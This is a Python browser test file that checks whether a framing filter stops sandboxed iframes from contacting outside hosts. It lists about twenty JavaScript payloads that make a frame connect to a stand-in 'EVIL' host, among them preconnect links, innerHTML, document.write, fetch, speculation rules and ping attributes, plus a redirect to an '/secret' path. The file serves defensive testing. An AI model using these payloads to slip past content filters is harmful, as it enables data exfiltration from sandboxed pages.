"""Frames of outputs connect to no host ahead: a link looks up and connects without asking any policy."""

from __future__ import annotations

import html
import http.server
import threading
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest
from recording_listener import recording_listener
from waiting import wait_until

from sentinel_kernel.kernel.filtering.frame import framed

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import BrowserContext, Page

pytestmark = pytest.mark.browser

SET = "l.rel='preconnect';l.href='EVIL'"
WAYS = {
    "static": "",
    "element": f"l=document.createElement('link');{SET};document.head.append(l)",
    "capitals": f"l=document.createElement('LINK');{SET};document.head.append(l)",
    "namespace": f"l=document.createElementNS('http://www.w3.org/1999/xhtml','link');{SET};document.head.append(l)",
    "prefix": f"l=document.createElementNS('http://www.w3.org/1999/xhtml','x:link');{SET};document.head.append(l)",
    "other-document": (
        "d=document.implementation.createHTMLDocument('');l=d.createElement('link');"
        f"{SET};document.head.append(l)"
    ),
    "attributes": (
        "l=document.createElement('link');l.setAttribute('rel','preconnect');l.setAttribute('href','EVIL');"
        "document.head.append(l)"
    ),
    "attribute-nodes": (
        "l=document.createElement('link');r=document.createAttribute('rel');r.value='preconnect';l.setAttributeNode(r);"
        "h=document.createAttribute('href');h.value='EVIL';l.setAttributeNode(h);document.head.append(l)"
    ),
    "two-names": (
        "n=0;l=document.createElement({toString:()=>n++?'link':'b'});try{"
        + SET
        + ";document.head.append(l)}catch(e){}"
        "l=document.createElement('link');" + SET + ";document.head.append(l)"
    ),
    "built-in": (
        "class L extends HTMLLinkElement{};customElements.define('x-l',L,{extends:'link'});l=new L();"
        f"{SET};document.head.append(l)"
    ),
    "sheet-there": "l=document.querySelector('link,style');"
    + SET
    + ";l=l.cloneNode();document.head.append(l)",
    "text": "d=document.createElement('div');d.innerHTML='<link rel=preconnect href=EVIL>';document.body.append(d)",
    "set-html": (
        "d=document.createElement('div');document.body.append(d);"
        "d.setHTML('<link rel=preconnect href=EVIL>',{sanitizer:{elements:[{name:'link',attributes:['rel','href']}]}})"
    ),
    "parse-html": (
        "d=Document.parseHTML('<link rel=preconnect href=EVIL>',{sanitizer:{elements:['html','head','body',"
        "{name:'link',attributes:['rel','href']}]}});document.head.append(document.adoptNode(d.querySelector('link')))"
    ),
    "fragment": (
        "document.body.append(document.createRange().createContextualFragment('<link rel=preconnect href=EVIL>'))"
    ),
    "document-written": "document.open();document.write('<link rel=preconnect href=EVIL>');document.close()",
    "fetched": "fetch('EVIL').catch(()=>0);new Image().src='EVIL/x.png';new Audio('EVIL/x.mp3').load()",
    "speculated": (
        "s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({"
        "prefetch:[{source:'list',urls:['EVIL/a'],eagerness:'immediate'}],"
        "prerender:[{source:'list',urls:['EVIL/b'],eagerness:'immediate'}]});document.head.append(s)"
    ),
    "attributed": (
        "i=new Image();i.attributionSrc='EVIL/a';i.setAttribute('attributionsrc','EVIL/b');i.src='data:,';"
        "document.body.append(i);a=document.createElement('a');a.href='EVIL';a.ping='EVIL/p';document.body.append(a)"
    ),
}
EVERYWHERE = {
    "static",
    "element",
    "capitals",
    "namespace",
    "attributes",
    "other-document",
    "text",
    "fragment",
    "fetched",
}
"""What connects in a frame without rules, whatever the version of the browser."""


def _output(way: str, evil: str) -> str:
    script = WAYS[way].replace("EVIL", evil)
    static = f"<link rel=preconnect href='{evil}'>" if way == "static" else ""
    sheet = "<link rel='stylesheet' href='data:text/css,'>" if way == "sheet-there" else ""
    return (
        f"<p>chart</p>{static}{sheet}<script>try{{{script}}}catch(error){{}}</script>"
        "<script>top.postMessage('alive', '*')</script>"
    )


@contextmanager
def _served(page: str) -> Iterator[str]:
    """Serve one page, and yield its address: what has no address of HTTP is led by other rules."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            content = page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()


def _connections(eager: BrowserContext, way: str, *, filtered: bool) -> int:
    """Return how many connections come of one way; without the filter, once one has come."""
    with recording_listener() as evil:
        output = _output(way, evil.url)
        bare = f"<iframe sandbox='allow-scripts' srcdoc='{html.escape(output, quote=True)}'></iframe>"
        heard = (
            "<script>addEventListener('message', told => { window.alive = told.data === 'alive'; })</script>"
        )
        with _served(f"<!DOCTYPE html>{heard}{framed(output, ()) if filtered else bare}") as address:
            page = eager.new_page()
            page.goto(address)
            if filtered:
                if way != "document-written":
                    page.wait_for_function("() => window.alive === true")
                # What was asked for before has arrived by the time that this has.
                page.evaluate("url => fetch(url, {mode: 'no-cors'}).then(() => null)", f"{evil.url}/settled/")
                wait_until(lambda: "settled" in evil.paths(), "the page's own request has arrived")
            else:
                wait_until(lambda: evil.connections, f"{way} connects")
            page.close()
            return evil.connections - (1 if filtered else 0)


@pytest.mark.parametrize("way", sorted(EVERYWHERE))
def test_without_rules_a_frame_connects(eager: BrowserContext, way: str) -> None:
    assert _connections(eager, way, filtered=False) > 0


@pytest.mark.parametrize("way", WAYS)
def test_a_frame_connects_nowhere(eager: BrowserContext, way: str) -> None:
    assert _connections(eager, way, filtered=True) == 0


def _wait(page: Page, condition: Callable[[], object], what: str) -> None:
    """As `wait_until`, for what Playwright tells: it calls back, and its frames change, within its own calls alone."""
    wait_until(lambda: (page.evaluate("0"), condition())[1], what)


def test_a_frame_that_leads_itself_elsewhere_asks_for_nothing(eager: BrowserContext) -> None:
    """Chromium connects before it asks whether a frame may be led there; what would be asked for stays unsaid."""
    with recording_listener() as evil:
        output = f"<p>chart</p><script>location='{evil.url}/secret'</script>"
        with _served(f"<!DOCTYPE html>{framed(output, ())}") as address:
            page = eager.new_page()
            page.goto(address)
            inner = page.frames[-1]
            _wait(page, lambda: inner.is_detached() or inner.url != "about:srcdoc", "it was refused")
            page.evaluate("url => fetch(url, {mode: 'no-cors'}).then(() => null)", f"{evil.url}/settled/")
            wait_until(lambda: "settled" in evil.paths(), "the page's own request has arrived")
            page.close()
        assert evil.paths() == {"settled"}


def test_style_sheets_of_listed_hosts_are_loaded_however_they_are_made(eager: BrowserContext) -> None:
    loads = "https://cdn.example.org"
    made = "l=document.createElement('link');l.rel='stylesheet';l.href='SHEET';document.head.append(l);"
    said = (
        "s=document.createElement('link');s.setAttribute('href','SHEET');s.setAttribute('rel','stylesheet');"
    )
    output = (
        f"<link rel='stylesheet' media='print' href='{loads}/static.css'>"
        f"<script>{made.replace('SHEET', loads + '/a.css')}"
        f"{said.replace('SHEET', loads + '/b.css')}document.head.append(s);"
        "top.postMessage([...document.querySelectorAll('style')].slice(1).map(one => "
        "[one.textContent, one.media, one.isConnected]), '*')</script>"
    )
    heard = "<script>addEventListener('message', told => { window.told = told.data; })</script>"
    with _served(f"<!DOCTYPE html>{heard}{framed(output, ('cdn.example.org',))}") as address:
        page, asked = eager.new_page(), set[str]()
        page.route(
            "https://cdn.example.org/**", lambda route: (asked.add(route.request.url), route.abort())[1]
        )
        page.goto(address)
        page.wait_for_function("() => window.told")
        sheets = page.evaluate("() => window.told")
        _wait(page, lambda: len(asked) >= 2, "the sheets are asked for")
        page.close()
    assert sheets == [
        [f'@import url("{loads}/static.css");', "print", True],
        [f'@import url("{loads}/a.css");', "", True],
        [f'@import url("{loads}/b.css");', "", True],
    ]
    assert {f"{loads}/a.css", f"{loads}/b.css"} <= asked
